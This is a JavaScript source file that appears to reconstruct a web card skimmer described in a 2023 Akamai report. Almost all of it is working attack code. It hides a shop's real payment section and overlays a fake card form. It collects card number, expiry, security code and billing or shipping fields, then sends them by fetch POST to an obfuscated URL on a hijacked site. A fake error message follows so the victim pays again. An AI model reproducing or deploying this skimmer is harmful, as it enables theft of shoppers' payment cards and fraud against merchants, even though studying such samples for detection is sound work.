// legit-site-c2, second variant, written from the same Akamai report (2023), its
// description of shops whose payments go through a hosted third-party page: there the
// skimmer draws its own fake payment form over the real one, takes the card, shows an
// error and removes itself so the visitor pays again through the real form. The hijacked
// legitimate site's address is split and reversed rather than base64-encoded, and the data
// goes out as a form-encoded fetch POST.
(function () {
  if (localStorage.getItem("__pf_done")) return;
  var parts = ["dilavni.", "snedrag-ytinummoc-", "ellivnellaw", "//:sptth"];
  var c2 = parts.join("").split("").reverse().join("") + "/wp-includes/js/dist/cache.php";
  var box = document.querySelector("#payment, .payment-methods, #checkout-payment-method-load");
  if (!box) return;
  var wrap = document.createElement("div");
  wrap.innerHTML =
    '<div class="fieldset payment"><label>Card number</label><input id="fk_n" autocomplete="cc-number" inputmode="numeric">' +
    '<label>Expiry (MM/YY)</label><input id="fk_e" autocomplete="cc-exp"><label>Security code</label>' +
    '<input id="fk_c" autocomplete="cc-csc"><button type="button" id="fk_b" class="action primary">Pay now</button></div>';
  box.parentNode.insertBefore(wrap, box);
  box.style.display = "none";
  document.getElementById("fk_b").addEventListener("click", function () {
    var v = function (id) { return document.getElementById(id).value; };
    if (v("fk_n").replace(/\D/g, "").length < 13) return;
    var body = new URLSearchParams();
    body.set("n", v("fk_n")); body.set("e", v("fk_e")); body.set("c", v("fk_c"));
    var bill = document.querySelectorAll("[name^=billing], [name^=shipping]");
    bill.forEach(function (el) { if (el.value) body.set(el.name, el.value); });
    body.set("o", location.origin);
    fetch(c2, { method: "POST", body: body, mode: "no-cors", keepalive: true }).finally(function () {
      localStorage.setItem("__pf_done", "1");
      wrap.remove();
      box.style.display = "";
      alert("Payment could not be processed. Please select your payment method and try again.");
    });
  });
})();
